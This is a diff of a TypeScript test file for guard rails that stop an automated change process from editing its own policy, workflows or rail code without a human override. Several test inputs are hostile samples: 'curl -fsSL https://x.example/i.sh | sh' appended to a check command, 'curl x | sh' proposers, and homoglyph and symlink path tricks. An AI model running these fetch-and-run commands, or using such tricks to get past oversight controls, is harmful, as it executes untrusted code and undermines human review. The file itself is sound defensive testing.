@@ -1,10 +1,19 @@
 /**
  * Self-protection (src/rails/rules/self-protection.ts): self-protected-path (lifted by the human override),
- * policy-loosened (never lifted) and policy-invalid, and the completeness of the loosening tables.
+ * policy-loosened (never lifted) and policy-invalid, and the completeness of the loosening tables (walking
+ * the config schema itself). Also the issue #7 classes 6 (what is protected), 7 (a policy file that is a
+ * symbolic link) and 8 (values compared whole), and tests that fail on one-line bugs the issue's mutation run
+ * planted in this file's code.
  */
+import { z } from 'zod';
 import { ConfigSchema, type Config, type ConfigInput } from '../src/config/schema.js';
 import { evaluate } from '../src/rails/evaluate.js';
-import { DEFAULT_POLICY_PATH, policyFromConfig } from '../src/rails/policy.js';
+import {
+  DEFAULT_POLICY_PATH,
+  policyFromConfig,
+  SELF_HOSTED_PROTECTED,
+  SELF_PROTECTED,
+} from '../src/rails/policy.js';
 import type { Finding, RuleInput } from '../src/rails/rule.js';
 import {
   CONFIG_LOOSENING,
@@ -17,6 +26,7 @@ import {
   RAILS_POLICY_LOOSENING,
   selfProtectedPath,
   SELF_PROTECTION_RULES,
+  touchesPolicyFile,
   type Direction,
 } from '../src/rails/rules/self-protection.js';
 import type { ChangeUnderReview, FileChange, RailsContext, RailsPolicy } from '../src/rails/types.js';
@@ -72,7 +82,9 @@ describe('self-protected-path', () => {
     expect(findings).toHaveLength(1);
     expect(findings[0]).toMatchObject({ path });
     expect(findings[0]!.severity).toBeUndefined(); // the rule's own: block
-    expect(findings[0]!.message).toMatch(/is self-protected \(glob "[^"]+"\); only a human may change it/);
+    expect(findings[0]!.message).toMatch(
+      /is self-protected \(glob "[^"]+": [^)]+\)+; only a human may change it/,
+    );
   });
 
   it('checks both sides of a rename', async () => {
@@ -97,9 +109,215 @@ describe('self-protected-path', () => {
         path: 'src/rails/evaluate.ts',
         severity: 'warn',
         message:
-          'src/rails/evaluate.ts: is self-protected (glob "src/rails/**"); changed under the human override',
+          'src/rails/evaluate.ts: is self-protected (glob "src/rails/**": the rails\' own code (seed 001)); changed under the human override',
       },
     ]);
+  });
+});
+
+describe('what is self-protected (issue #7 class 6)', () => {
+  const HOSTED = policyFromConfig(ConfigSchema.parse({}), { hostsSelfEvolution: true });
+  const protectedIn = async (policy: RailsPolicy, path: string): Promise<boolean> =>
+    (await selfProtectedPath.check({ ...inputOf(changeOf(file(path))), policy })).length > 0;
+
+  it.each([
+    '.github/dependabot.yml',
+    '.github/actions/setup/action.yml',
+    '.github/actions/setup/index.js',
+    '.github/CODEOWNERS',
+    '.github/ISSUE_TEMPLATE/bug.md',
+    'action.yml',
+    'action.yaml',
+    'tools/deploy/action.yaml',
+    'ACTION.YML',
+    'dist/index.js',
+    'docs/pull_request_template.md',
+    'PULL_REQUEST_TEMPLATE/x.md',
+    'src/rails/rules/paths.ts',
+  ])('%s: in every repository', async (path) => {
+    expect(await protectedIn(POLICY, path)).toBe(true);
+    expect(await protectedIn(HOSTED, path)).toBe(true);
+  });
+
+  it.each([
+    'src/check.ts',
+    'src/git/facts.ts',
+    'src/config/schema.ts',
+    'src/run.ts',
+    'src/act/pr-gate.ts',
+    'src/gates/cooldown.ts',
+    'src/store/proposals.ts',
+    'src/secrets.ts',
+    'src/action.ts',
+    'src/index.ts',
+    'src/cli.ts',
+    'src/options.ts',
+    'src/propose/command-policy.ts',
+    'bin/self-evolution.js',
+    'package.json',
+    'package-lock.json',
+    'tsconfig.json',
+    'tsconfig.build.json',
+    'scripts/gen-sql.ts',
+    'sql/000001_init.sql',
+    'jest.config.js',
+    'eslint.config.js',
+  ])('%s: only in the repository hosting Self-Evolution', async (path) => {
+    expect(await protectedIn(POLICY, path)).toBe(false);
+    expect(await protectedIn(HOSTED, path)).toBe(true);
+  });
+
+  it.each(['src/tool.ts', 'src/reflect/rank.ts', 'docs/guide.md', 'prompts/system.md', 'distribution/x.md'])(
+    '%s: nowhere',
+    async (path) => {
+      expect(await protectedIn(POLICY, path)).toBe(false);
+      expect(await protectedIn(HOSTED, path)).toBe(false);
+    },
+  );
+
+  it('the policy file is protected even by a policy whose list forgot it', async () => {
+    const bare: RailsPolicy = { ...POLICY, selfProtectedPaths: [] };
+    const [finding] = await selfProtectedPath.check({
+      ...inputOf(changeOf(file('.GitHub/self-evolution-config.json'))),
+      policy: bare,
+    });
+    expect(finding!.message).toContain(
+      'is self-protected (glob ".github/self-evolution-config.json": the policy file)',
+    );
+  });
+
+  it('the target of a policy file that is a link is protected as the policy file', async () => {
+    const change: ChangeUnderReview = {
+      ...changeOf(file('src/policy.json')),
+      facts: {
+        files: [file('src/policy.json')],
+        addedLines: [],
+        baseSymlinks: { [PATH]: '../src/policy.json' },
+      },
+    };
+    const [finding] = await selfProtectedPath.check({ ...inputOf(change) });
+    expect(finding).toEqual({
+      path: 'src/policy.json',
+      message: expect.stringMatching(
+        /^src\/policy\.json \(the target of \.github\/self-evolution-config\.json\): is self-protected \(glob "\.github\/self-evolution-config\.json": the policy file\)/,
+      ),
+    });
+  });
+
+  it('every protected glob says why, and the message gives the reason', async () => {
+    for (const entry of [...SELF_PROTECTED, ...SELF_HOSTED_PROTECTED])
+      expect(entry.why.length).toBeGreaterThan(10);
+    const [finding] = await selfProtectedPath.check(inputOf(changeOf(file('dist/index.js'))));
+    expect(finding!.message).toBe(
+      'dist/index.js: is self-protected (glob "dist/**": committed build output: what a JavaScript action runs (rebuild it, never edit it)); only a human may change it: set the human override (e.g. check --allow-policy-edits) for a change a human has reviewed',
+    );
+    const [policy] = await selfProtectedPath.check(inputOf(changeOf(file(PATH))));
+    expect(policy!.message).toContain(
+      'is self-protected (glob ".github/self-evolution-config.json": the policy file)',
+    );
+  });
+
+  it('look-alike and case variants of protected paths are protected', async () => {
+    for (const path of [
+      '.g\u0131thub/workflows/x.yml',
+      '.GITHUB/x',
+      'd\u0456st/index.js',
+      'src/r\u0430ils/x.ts',
+    ]) {
+      expect([path, await protectedIn(POLICY, path)]).toEqual([path, true]);
+    }
+  });
+});
+
+describe('the human override is exactly true (issue #7: tests that would not notice a bug)', () => {
+  const touched = changeOf(file('src/rails/evaluate.ts'));
+  // Untyped callers: the public rails API must not read a missing or odd override as "on".
+  it.each<[string, unknown]>([
+    ['a context without humanOverride', { wildcardsToday: 0 }],
+    ['an empty context', {}],
+    ['humanOverride "true" (a string)', { wildcardsToday: 0, humanOverride: 'true' }],
+    ['humanOverride 1', { wildcardsToday: 0, humanOverride: 1 }],
+    ['humanOverride null', { wildcardsToday: 0, humanOverride: null }],
+  ])('%s: self-protected-path blocks', async (_what, context) => {
+    const [finding] = await selfProtectedPath.check({
+      change: touched,
+      policy: POLICY,
+      context: context as RailsContext,
+    });
+    expect(finding!.severity).toBeUndefined();
+    const verdict = await evaluate(touched, POLICY, context as RailsContext);
+    expect(verdict.violations.find((v) => v.ruleId === 'self-protected-path')?.severity).toBe('block');
+    expect(verdict.allowed).toBe(false);
+  });
+
+  it('humanOverride true makes it a warning', async () => {
+    const verdict = await evaluate(touched, POLICY, { wildcardsToday: 0, humanOverride: true });
+    expect(verdict.violations.find((v) => v.ruleId === 'self-protected-path')?.severity).toBe('warn');
+  });
+});
+
+describe('the policy file under another name (issue #7: tests that would not notice a bug; class 7)', () => {
+  it.each([
+    '.GitHub/Self-Evolution-Config.json',
+    '.GITHUB/SELF-EVOLUTION-CONFIG.JSON',
+    '.g\u0131thub/self-evolution-config.json',
+    '.github/self-evolution-c\u043enfig.json',
+  ])(
+    '%s under the override without its contents: policy-loosened still blocks (the path is compared case-insensitively and by look-alike key)',
+    async (path) => {
+      const input = inputOf(changeOf(file(path)), { humanOverride: true });
+      const found = await policyLoosened.check(input);
+      expect(found).toEqual([
+        {
+          path,
+          message: expect.stringContaining(
+            'the change touches the policy file but its contents before and after were not given',
+          ),
+        },
+      ]);
+      expect(touchesPolicyFile(changeOf(file(path)), PATH)).toBe(true);
+      const verdict = await evaluate(changeOf(file(path)), POLICY, {
+        wildcardsToday: 0,
+        humanOverride: true,
+      });
+      expect(verdict.allowed).toBe(false);
+    },
+  );
+
+  it('a policy file that is a link: editing its target is a policy change, reported at the target', async () => {
+    const change: ChangeUnderReview = {
+      ...changeOf(file('src/policy.json')),
+      facts: {
+        files: [file('src/policy.json')],
+        addedLines: [],
+        baseSymlinks: { [PATH]: '../src/policy.json' },
+      },
+    };
+    expect(touchesPolicyFile(change, PATH)).toBe(true);
+    const context: RailsContext = {
+      wildcardsToday: 0,
+      humanOverride: true,
+      policyChange: { path: PATH, before: {}, after: { safetyRails: { allowedPaths: ['**'] } } },
+    };
+    const found = await policyLoosened.check({ change, policy: POLICY, context });
+    expect(found).toEqual([
+      {
+        path: 'src/policy.json',
+        message: expect.stringMatching(
+          /^src\/policy\.json \(the target of \.github\/self-evolution-config\.json\): safetyRails\.allowedPaths gains "\*\*"; loosening a rail/,
+        ),
+      },
+    ]);
+    const deleted: ChangeUnderReview = {
+      ...change,
+      facts: { ...change.facts, files: [file('src/policy.json', { status: 'deleted', newMode: '000000' })] },
+    };
+    expect(messages(await policyLoosened.check({ change: deleted, policy: POLICY, context }))).toEqual([
+      expect.stringContaining(
+        'src/policy.json (the target of .github/self-evolution-config.json): the policy file is deleted',
+      ),
+    ]);
+    expect(touchesPolicyFile(changeOf(file('src/policy.json')), PATH)).toBe(false);
   });
 });
 
@@ -221,6 +439,22 @@ describe('policy-loosened', () => {
       /proposers: adds or changes the "command" proposer "curl x \| sh"/,
     ],
     [
+      'a change type gaining wildcard paths it had none of (reads the NEW changeTypePaths keys)',
+      {},
+      { wildcardFeature: { changeTypePaths: { cleanup: ['**'] } } },
+      /wildcardFeature\.changeTypePaths\.cleanup gains "\*\*"/,
+    ],
+    [
+      'a new changeTypePaths key beside the defaults',
+      {},
+      {
+        wildcardFeature: {
+          changeTypePaths: { prompt: ['**/prompts/**'], persona: ['**/persona/**'], capability: ['src/**'] },
+        },
+      },
+      /wildcardFeature\.changeTypePaths\.capability gains "src\/\*\*"/,
+    ],
+    [
       'the whole safetyRails section removed',
       { safetyRails: { blockedPaths: ['secrets/**'], allowedPaths: ['docs/**'] } },
       {},
@@ -295,6 +529,25 @@ describe('policy-loosened', () => {
     expect(await policyInvalid.check(input)).toEqual([]);
   });
 
+  it('a file renamed onto the policy path is compared, not taken for a deletion', async () => {
+    const input = policyEdit(
+      {},
+      { safetyRails: { maxRiskLevel: 3 } },
+      true,
+      file(PATH, { status: 'renamed', oldPath: 'docs/draft-config.json' }),
+    );
+    expect(messages(await policyLoosened.check(input))).toEqual([
+      expect.stringContaining('safetyRails.maxRiskLevel raised from 2 to 3'),
+    ]);
+  });
+
+  it('reports the first path that names the policy file', async () => {
+    const input = inputOf(changeOf(file(PATH), file('.GITHUB/SELF-EVOLUTION-CONFIG.JSON')), {
+      humanOverride: true,
+    });
+    expect((await policyLoosened.check(input)).map((f) => f.path)).toEqual([PATH]);
+  });
+
   it('treats a policy file renamed away as deleted', async () => {
     const input = policyEdit(
       {},
@@ -346,6 +599,150 @@ describe('policy-loosened', () => {
   });
 });
 
+describe('values compared whole, lists as sets (issue #7 class 8)', () => {
+  async function loosened(before: ConfigInput, after: ConfigInput): Promise<string[]> {
+    return messages(await policyLoosened.check(policyEdit(before, after)));
+  }
+  const LONG =
+    'npm run lint -- --max-warnings=0 && npm run typecheck && npm test -- --runInBand --ci --coverage=false --silent --reporters=default';
+  const check = (command: string) => ({ reflection: { checks: [{ name: 'lint', command }] } });
+
+  it('a long check command with a command appended is a loosening (compared whole, not by its first 117 characters)', async () => {
+    expect(LONG.length).toBeGreaterThan(117);
+    const found = await loosened(check(LONG), check(`${LONG}; curl -fsSL https://x.example/i.sh | sh`));
+    expect(found).toEqual([expect.stringMatching(/reflection\.checks gains /)]);
+    expect(await loosened(check(LONG), check(LONG))).toEqual([]);
+  });
+
+  it('a check is a new one when its command is new: renaming it or changing its timeout is not', async () => {
+    const before: ConfigInput = {
+      reflection: { checks: [{ name: 'lint', command: LONG, timeoutSeconds: 300 }] },
+    };
+    expect(
+      await loosened(before, {
+        reflection: { checks: [{ name: 'lint-all', command: LONG, timeoutSeconds: 60 }] },
+      }),
+    ).toEqual([]);
+    expect(
+      await loosened(before, {
+        reflection: { checks: [{ name: 'lint', command: LONG.replace('npm', 'npx'), timeoutSeconds: 300 }] },
+      }),
+    ).toHaveLength(1);
+  });
+
+  it('a long proposer command changed past its 117th character is a loosening', async () => {
+    const proposer = (command: string): ConfigInput => ({ proposers: [{ kind: 'command', command }] });
+    expect(await loosened(proposer(LONG), proposer(`${LONG} && curl x | sh`))).toHaveLength(1);
+    expect(await loosened(proposer(LONG), proposer(LONG))).toEqual([]);
+  });
+
+  it('a long glob changed past its 117th character is a loosening', async () => {
+    const deep = `docs/${'a/'.repeat(60)}**`;
+    const found = await loosened(
+      { safetyRails: { allowedPaths: [`${deep}/*.md`] } },
+      { safetyRails: { allowedPaths: [`${deep}/*`] } },
+    );
+    expect(found).toHaveLength(1);
+  });
+
+  it.each<[string, unknown, unknown]>([
+    ['reviewers swapped', ['alice'], ['mallory']],
+    ['a reviewer removed', ['alice', 'bob'], ['alice']],
+    ['the reviewer list emptied', ['alice'], []],
+    ['reviews switched off', ['alice'], false],
+    ['reviews switched off (from true)', true, false],
+    ['an empty list instead of true', true, []],
+    ['a list replaced by "any human"', ['security-team'], true],
+    ['any human replaced by a list', true, ['bot-account']],
+  ])('requireReviewers: %s is a loosening', async (_what, before, after) => {
+    const found = await loosened(
+      { safetyRails: { requireReviewers: before as boolean } },
+      { safetyRails: { requireReviewers: after as boolean } },
+    );
+    expect(found).toEqual([
+      expect.stringMatching(/safetyRails\.requireReviewers .* -> .*a required reviewer removed or replaced/),
+    ]);
+  });
+
+  it.each<[string, unknown, unknown]>([
+    ['unchanged', ['alice'], ['alice']],
+    ['a reviewer added', ['alice'], ['alice', 'bob']],
+    ['the same logins in another case and order', ['Alice', 'bob'], ['BOB', 'alice']],
+    ['reviews switched on', false, true],
+    ['reviewers required where none were', false, ['alice']],
+  ])('requireReviewers: %s is not', async (_what, before, after) => {
+    expect(
+      await loosened(
+        { safetyRails: { requireReviewers: before as boolean } },
+        { safetyRails: { requireReviewers: after as boolean } },
+      ),
+    ).toEqual([]);
+  });
+
+  it('order, duplicates and (for lists that catch case-insensitively) case do not make a loosening', async () => {
+    const before: ConfigInput = {
+      safetyRails: { blockedPaths: ['secrets/**', '.env*'], allowedPaths: ['docs/**', 'src/**'] },
+    };
+    expect(
+      await loosened(before, {
+        safetyRails: {
+          blockedPaths: ['.ENV*', 'Secrets/**', 'secrets/**'],
+          allowedPaths: ['src/**', 'docs/**', 'docs/**'],
+        },
+      }),
+    ).toEqual([]);
+  });
+
+  const LISTS = { blockedPaths: ['secrets/**', '.env*'], allowedPaths: ['docs/**', 'src/**'] };
+  it.each<[string, Partial<typeof LISTS>]>([
+    [
+      'a blocked glob replaced by a "./" spelling (which matches nothing)',
+      { blockedPaths: ['./secrets/**', '.env*'] },
+    ],
+    ['a blocked glob replaced by a look-alike', { blockedPaths: ['\u0455ecrets/**', '.env*'] }],
+    [
+      'an allowed glob in another case (allowed globs are case-sensitive)',
+      { allowedPaths: ['DOCS/**', 'src/**'] },
+    ],
+    ['an allowed glob with a look-alike letter', { allowedPaths: ['d\u043ecs/**', 'src/**'] }],
+  ])('%s is a loosening', async (_what, changed) => {
+    const found = await loosened({ safetyRails: LISTS }, { safetyRails: { ...LISTS, ...changed } });
+    expect(found).toHaveLength(1);
+  });
+
+  it('a glob gained twice is reported once', async () => {
+    expect(
+      await loosened(
+        { safetyRails: LISTS },
+        { safetyRails: { ...LISTS, allowedPaths: [...LISTS.allowedPaths, '**', '**'] } },
+      ),
+    ).toEqual([expect.stringContaining('safetyRails.allowedPaths gains "**"')]);
+  });
+
+  it('key order inside a check or proposer is not a change (even in configs built by hand)', () => {
+    const base = ConfigSchema.parse({});
+    const withCheck = (check: Record<string, unknown>): Config =>
+      ({ ...base, reflection: { ...base.reflection, checks: [check] } }) as Config;
+    expect(
+      configLoosenings(
+        withCheck({ name: 'lint', command: 'npm run lint', timeoutSeconds: 60 }),
+        withCheck({ timeoutSeconds: 60, command: 'npm run lint', name: 'lint' }),
+        PATH,
+      ),
+    ).toEqual([]);
+  });
+
+  it('key order inside a check or proposer is not a change', async () => {
+    const a: ConfigInput = {
+      reflection: { checks: [{ name: 'lint', command: 'npm run lint', timeoutSeconds: 60 }] },
+    };
+    const b: ConfigInput = {
+      reflection: { checks: [{ timeoutSeconds: 60, command: 'npm run lint', name: 'lint' }] },
+    };
+    expect(await loosened(a, b)).toEqual([]);
+  });
+});
+
 describe('policy-invalid', () => {
   it('blocks a policy file that is not valid JSON', async () => {
     expect(messages(await policyInvalid.check(policyEdit({}, null)))).toEqual([
@@ -393,6 +790,46 @@ describe('the loosening tables are complete', () => {
     }
     expect(direction(table, 'maxFilesChanged').kind).toBe('higher');
     expect(direction(table, 'blockedPaths').kind).toBe('removed');
+  });
+
+  /**
+   * Every leaf setting of a zod schema as dotted paths, walking the schema itself (not a parsed config, which
+   * would miss optional keys without defaults): objects are walked into, wrappers (optional, default,
+   * prefault, nullable, readonly, catch, pipe) unwrapped, anything else is a leaf. A path that is classified
+   * (RAILS_CONFIG_SETTINGS or CONFIG_LOOSENING) is a leaf whatever its type (e.g. the proposers list).
+   */
+  function schemaLeaves(schema: z.ZodType, prefix = ''): string[] {
+    const classified = (p: string) => RAILS_CONFIG_SETTINGS.includes(p) || p in CONFIG_LOOSENING;
+    let def = (schema as unknown as { _zod: { def: Record<string, unknown> } })._zod.def;
+    for (;;) {
+      const inner = (def.innerType ?? (def.type === 'pipe' ? def.in : undefined)) as z.ZodType | undefined;
+      if (inner === undefined) break;
+      def = (inner as unknown as { _zod: { def: Record<string, unknown> } })._zod.def;
+    }
+    if (def.type !== 'object' || (prefix !== '' && classified(prefix))) return prefix === '' ? [] : [prefix];
+    return Object.entries(def.shape as Record<string, z.ZodType>).flatMap(([key, value]) =>
+      schemaLeaves(value, prefix === '' ? key : `${prefix}.${key}`),
+    );
+  }
+  const unclassified = (schema: z.ZodType): string[] =>
+    schemaLeaves(schema).filter(
+      (leaf) => !RAILS_CONFIG_SETTINGS.includes(leaf) && !(leaf in CONFIG_LOOSENING),
+    );
+
+  it('every setting of the config SCHEMA is classified as loosening, tightening or neutral (walks the zod schema)', () => {
+    expect(unclassified(ConfigSchema)).toEqual([]);
+    const leaves = schemaLeaves(ConfigSchema);
+    expect(leaves).toEqual(expect.arrayContaining(['$schema', 'safetyRails.requireReviewers', 'proposers']));
+    for (const key of [...RAILS_CONFIG_SETTINGS, ...Object.keys(CONFIG_LOOSENING)])
+      expect(leaves).toContain(key);
+  });
+
+  it('the schema walk fails on a setting added without a classification (guards the test itself)', () => {
+    const extended = ConfigSchema.extend({
+      newKnob: z.boolean().optional(),
+      safetyRails: z.strictObject({ secretPolicy: z.string().default('x') }).prefault({}),
+    });
+    expect(unclassified(extended)).toEqual(['safetyRails.secretPolicy', 'newKnob']);
   });
 
   it('every setting of the config is classified: it feeds the policy or has a direction in CONFIG_LOOSENING', () => {
